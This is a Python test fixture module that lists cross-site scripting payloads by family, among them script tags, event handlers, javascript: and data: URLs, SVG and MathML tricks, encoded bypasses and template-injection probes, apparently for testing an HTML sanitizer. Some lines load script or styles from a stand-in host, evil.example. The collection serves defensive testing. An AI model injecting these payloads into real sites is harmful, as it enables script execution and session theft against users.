"""A corpus of cross-site scripting payloads, by family, for tests/test_xss.py and
tests/test_browser_xss.py.

Every payload that could run sets the global ``xss`` and opens a dialog (``JS``), so a real
browser shows at once whether any of it ran. Families: script tags, event handlers, dangerous
URLs (``javascript:``, ``data:``, ``vbscript:`` in ``href``, ``src``, ``action``,
``formaction``, ``xlink:href``), SVG and MathML tricks, broken tags, attribute breakouts,
``<base>``, ``<meta http-equiv=refresh>``, ``<style>`` (``@import``, ``expression()``), and
encoded variants (entities, mixed case, NUL bytes, control characters, Unicode and
percent escapes, UTF-7, full-width brackets), plus template syntax that must stay text.
"""

from __future__ import annotations

import base64

#: What a payload runs: sets ``window.xss`` and opens a dialog.
JS = "xss=1,alert(1)"
#: The global a payload sets when it runs.
FLAG = "xss"

_B64_PAGE = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
_ENTITIES = "".join(f"&#{ord(c)};" for c in "javascript:")
_HEX_ENTITIES = "".join(f"&#x{ord(c):x};" for c in "javascript:")

SCRIPT_TAGS = [
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<ScRiPt>{JS}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<script/xss>{JS}</script>",
    f"<script\t>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<<script>{JS}//<</script>",
    f"</textarea><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"<!--<script>{JS}</script>-->",
    f"--><script>{JS}</script>",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"<noscript></noscript><script>{JS}</script>",
    f"<template><script>{JS}</script></template>",
]

EVENT_HANDLERS = [
    f"<img src=x onerror={JS}>",
    f"<img/src/onerror={JS}>",
    f"<img src=x:x onerror={JS}//",
    f"<body onload={JS}>",
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f'<div onmouseover="{JS}">hover UDHR</div>',
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<iframe onload={JS}></iframe>",
    f"<a href=# onclick={JS}>click the ICCPR</a>",
    f"<x onclick={JS}>click</x>",
    f"<p onpointerenter={JS}>UDHR</p>",
    f"<select autofocus onfocus={JS}>",
    f"<textarea autofocus onfocus={JS}>",
    f'<keygen autofocus onfocus="{JS}">',
    f'<form><button formaction="javascript:{JS}">x</button></form>',
    f"<object data=x onerror={JS}>",
    f'<body onpageshow="{JS}">',
    f"<style onload={JS}></style>",
]

DANGEROUS_URLS = [
    f'<a href="javascript:{JS}">UDHR</a>',
    f'<a href="JaVaScRiPt:{JS}">x</a>',
    f'<a href=" javascript:{JS}">x</a>',
    f'<a href="&#14; javascript:{JS}">x</a>',
    f'<a href="jav&#x09;ascript:{JS}">x</a>',
    f'<a href="jav\tascript:{JS}">x</a>',
    f'<a href="java\nscript:{JS}">x</a>',
    f'<a href="java&NewLine;script:{JS}">x</a>',
    f'<a href="{_ENTITIES}{JS}">x</a>',
    f'<a href="{_HEX_ENTITIES}{JS}">x</a>',
    f'<a href="javascript&colon;{JS}">x</a>',
    f'<a href="\x01javascript:{JS}">x</a>',
    f'<a href="data:text/html;base64,{_B64_PAGE}">x</a>',
    f'<a href="data:text/html,<script>{JS}</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    f'<iframe src="javascript:{JS}"></iframe>',
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f'<img src="javascript:{JS}">',
    f'<form action="javascript:{JS}"><input type=submit></form>',
    f'<form><input type=submit formaction="javascript:{JS}"></form>',
    f'<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>UDHR</text></a></svg>',
    f'<svg><a href="javascript:{JS}"><text>x</text></a></svg>',
    f'<math href="javascript:{JS}">x</math>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="data:text/html;base64,{_B64_PAGE}">',
    f'<link rel=stylesheet href="javascript:{JS}">',
    f'<area href="javascript:{JS}">',
    f'<blockquote cite="javascript:{JS}">ICCPR</blockquote>',
    f'<q cite="javascript:{JS}">x</q>',
    f'<a href="https://ok.example/" ping="javascript:{JS}">x</a>',
]

SVG_AND_MATHML = [
    f"<svg><script>{JS}</script></svg>",
    "<svg><script>&#x78;ss=1,alert(1)</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{JS}>",
    f'<svg><animate attributeName=href values="javascript:{JS}"/><a id=x><text>x</text></a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
    f'<svg><foreignObject><iframe srcdoc="<script>{JS}</script>"></iframe></foreignObject>',
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<svg><title><img src=x onerror={JS}></title></svg>",
    f'<math><mi xlink:href="data:x,<script>{JS}</script>">x</mi></math>',
    f"<svg><desc><![CDATA[</desc><script>{JS}</script>]]></svg>",
]

BROKEN_TAGS = [
    f"<img src=x onerror={JS}",
    f"<scr<!---->ipt>{JS}</script>",
    f'<img """><script>{JS}</script>">',
    f'<a href="javascript:{JS}"',
    f"<iframe src=javascript:{JS}",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<p <img src=x onerror={JS}>>",
    f"</p></div></main><script>{JS}</script>",
    f"<div><p>UDHR<p><script>{JS}</script>",
    f"<a\nhref\n=\njavascript:{JS}>x</a>",
    f"<img src=x\x0conerror={JS}>",
    f"<//script>{JS}</script>",
]

ATTRIBUTE_BREAKOUTS = [
    f'" onmouseover="{JS}',
    f"' onmouseover='{JS}",
    f'" autofocus onfocus="{JS}" x="',
    f'"><img src=x onerror={JS}>',
    f"'><svg onload={JS}>",
    f"` onmouseover={JS} `",
    f'x" style="background:url(javascript:{JS})',
    f'"/><script>{JS}</script>',
    f'" href="javascript:{JS}',
    f'</textarea><img src=x onerror="{JS}">',
    f'"></option></select><img src=x onerror={JS}>',
]

BASE_AND_META = [
    f'<base href="javascript:{JS}//">',
    '<base href="//evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f'<meta http-equiv="refresh" content="0; url=data:text/html;base64,{_B64_PAGE}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    f'<meta charset="utf-7">+ADw-script+AD4-{JS}+ADw-/script+AD4-',
    f'<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'
    f"<script>{JS}</script>",
]

STYLES = [
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<style>@import 'javascript:{JS}';</style>",
    f'<style>body{{background:url("javascript:{JS}")}}</style>',
    f'<div style="width:expression({JS})">UDHR</div>',
    f"<style>*{{x:expression({JS})}}</style>",
    f'<p style="background-image:url(javascript:{JS})">ICCPR</p>',
    f'<link rel=import href="data:text/html,<script>{JS}</script>">',
    "<style>*{behavior:url(https://evil.example/x.htc)}</style>",
]

ENCODED = [
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={JS}&#x3E;",
    f"%3Cscript%3E{JS}%3C/script%3E",
    f"%253Cscript%253E{JS}%253C/script%253E",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{JS}\\x3c/script\\x3e",
    f"\u003cscript\u003e{JS}\u003c/script\u003e",
    f"＜script＞{JS}＜/script＞",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"<img src=x onerror\x00={JS}>",
    f'<a href="java\x00script:{JS}">x</a>',
    f"<img src=x one\u200brror={JS}>",
    f"<\u0000script>{JS}</script>",
    f"\ufeff<script>{JS}</script>",
    f"<img src=x on\u0131error={JS}>",
    f'<a href="javas\u0441ript:{JS}">x</a>',
]

TEMPLATES = [
    "{{ config }}{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}#{alert(1)}",
]

FAMILIES: dict[str, list[str]] = {
    "script-tags": SCRIPT_TAGS,
    "event-handlers": EVENT_HANDLERS,
    "dangerous-urls": DANGEROUS_URLS,
    "svg-mathml": SVG_AND_MATHML,
    "broken-tags": BROKEN_TAGS,
    "attribute-breakouts": ATTRIBUTE_BREAKOUTS,
    "base-meta": BASE_AND_META,
    "styles": STYLES,
    "encoded": ENCODED,
    "templates": TEMPLATES,
}

#: Every payload, each once, in family order.
PAYLOADS: list[str] = list(dict.fromkeys(p for family in FAMILIES.values() for p in family))


def in_statement(payload: str) -> str:
    """``payload`` between two real citations, so that annotation runs around it."""
    return f"Article 12(4) of the ICCPR {payload} and UDHR, art. 13(2)."


def as_page(payload: str) -> str:
    """``payload`` in the main content of a web page, and in its head and body too."""
    return (
        f"<!doctype html><html><head><title>{payload}</title>{payload}</head>"
        f"<body>{payload}<main><p>{in_statement(payload)}</p><p>{payload}</p></main></body></html>"
    )


def sample(per_family: int = 2) -> list[str]:
    """A few payloads of every family (the first ones), for the slower browser test."""
    return [p for family in FAMILIES.values() for p in family[:per_family]]
